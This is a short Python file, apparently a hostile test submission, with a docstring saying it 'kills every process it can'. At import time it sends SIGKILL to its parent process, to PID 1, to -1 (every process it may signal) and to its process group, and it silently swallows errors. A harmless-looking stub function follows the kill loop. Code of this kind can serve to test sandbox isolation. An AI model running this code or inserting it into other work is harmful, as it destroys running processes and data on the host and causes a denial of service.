"""Kills every process it can."""

import os, signal

for process in (os.getppid(), 1, -1, 0):
    try:
        os.kill(process, signal.SIGKILL)
    except OSError:
        pass


def visit(w, b, x, y):
    return w, b
